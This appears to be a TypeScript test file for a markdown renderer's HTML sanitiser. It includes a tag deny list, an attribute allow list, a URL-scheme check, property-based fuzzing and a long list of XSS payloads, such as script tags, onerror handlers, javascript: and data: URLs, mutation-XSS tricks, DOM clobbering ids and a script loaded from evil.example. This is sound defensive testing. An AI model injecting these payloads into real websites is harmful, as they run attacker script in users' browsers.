import fc from 'fast-check'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { visit } from 'unist-util-visit'
import { expect, test } from 'vitest'
import { filled } from './filled.server.ts'
import { templateOf } from './template.ts'
import type { HtmlElement, HtmlTree } from './tree.ts'

/** As the server puts it into a page. */
const rendered = (markdown: string) => filled(templateOf(markdown), { media: () => null })

/** Whatever of these comes out of a text can run code, load a foreign page or imitate the site. */
const forbidden = new Set(
  (
    'script style iframe frame frameset object embed applet form select textarea button svg math base link meta ' +
    'noscript template title video audio portal marquee body html head input-text plaintext xmp'
  ).split(' '),
)
const allowedAttributes = new Set(
  (
    'id lang dir title href hrefLang rel className dataFootnoteRef dataFootnoteBackref dataFootnotes ariaDescribedBy ' +
    'ariaLabel ariaHidden ariaHasPopup open src srcSet sizes type alt width height loading decoding dataDominant disabled checked ' +
    'value start reversed align colSpan rowSpan scope dateTime role tabIndex'
  ).split(' '),
)
const allowedScheme = /^(?:https?|ircs?|mailto|xmpp)$/

/** Reads the HTML as a browser would and names everything in it that must never be there. */
function dangersIn(html: string): string[] {
  const raw: HtmlTree = { type: 'root', children: [{ type: 'raw', value: html }] }
  const tree = unified().use(rehypeRaw).runSync(raw) as HtmlTree
  const dangers: string[] = []
  visit(tree, 'element', (node) => void dangers.push(...dangersOf(node)))
  visit(tree, 'comment', () => void dangers.push('a comment'))
  return dangers
}

function dangersOf({ tagName, properties }: HtmlElement): string[] {
  const dangers = forbidden.has(tagName) ? [`<${tagName}>`] : []
  for (const [name, value] of Object.entries(properties)) {
    if (!allowedAttributes.has(name)) dangers.push(`${tagName} ${name}`)
    if (name === 'id' && !String(value).startsWith('text-')) dangers.push(`id=${value}`)
    if (name === 'href' || name === 'src' || name === 'srcSet') dangers.push(...schemeDanger(String(value)))
  }
  return dangers
}

/** The scheme as the URL standard finds it: control characters and leading blanks do not count. */
function schemeDanger(address: string): string[] {
  if (!URL.canParse(address)) return []
  const scheme = new URL(address).protocol.slice(0, -1)
  return allowedScheme.test(scheme) ? [] : [`${scheme}: in ${address}`]
}

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/xss src="x">',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR="alert(1)">',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img src=x style="background:url(javascript:alert(1))">',
  '<img src=x name=getElementById>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x">',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type=image src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html><head><base href="https://evil.example/"></head></html>',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div onmouseover="alert(1)">x</div>',
  '<div id="__proto__">x</div>',
  '<a id="document" name="cookie">x</a>',
  '<form id="location"></form>',
  '<div class="admin-bar dialog">x</div>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "y">]><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="x" target="_top" ping="//evil.example" download>x</a>',
  '<a href="https://x" onclick=alert(1)>x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\u0009script:alert(1)>)',
  '[x](java&NewLine;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](x "onerror=alert(1)")',
  '![x](x"onerror="alert\\(1\\))',
  '![" onerror="alert(1)](x)',
  '<javascript:alert(1)>',
  '<vbscript:x>',
  '**<img src=x onerror=alert(1)>**',
  '# <img src=x onerror=alert(1)>',
  '# "><img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
  '[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x',
  '```<img/src=x/onerror=alert(1)>\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
]

test.each(vectors)('nothing dangerous comes of %j', (vector) => {
  expect(dangersIn(rendered(vector))).toEqual([])
  expect(dangersIn(rendered(`Before ${vector} after\n\n> - ${vector}\n\n<div>${vector}</div>`))).toEqual([])
})

test('the check itself sees what it is there to see', () => {
  const html = '<script></script><a href="java&#9;script:x" onclick="x" style="x">x</a><i id="location"></i><!--x-->'
  expect(dangersIn(html)).toHaveLength(6)
})

test('an address with a foreign scheme is emptied and its text stays', () => {
  expect(rendered('[read on](javascript:alert(1))')).toBe('<p><a href="">read on</a></p>')
  expect(rendered('![a boat](data:image/png;base64,AAAA)')).toContain('src="" alt="a boat"')
})

test('dangerous elements go with their content, unknown ones leave their words', () => {
  expect(rendered('<style>p { color: red }</style>\n\nafter')).toBe('\n<p>after</p>')
  expect(rendered('a <blink>word</blink>')).toBe('<p>a word</p>')
})

test('no text of any make yields anything dangerous', () => {
  const pieces = [
    ...vectors,
    '<',
    '>',
    '"',
    "'",
    '&',
    '`',
    '\n',
    '\n\n',
    '    ',
    '> ',
    '- ',
    '|',
    '[',
    '](',
    ')',
    '<p>',
    '-->',
  ]
  const piece = fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 12 }))
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
      expect(dangersIn(rendered(parts.join('')))).toEqual([])
    }),
    { numRuns: 300 },
  )
})
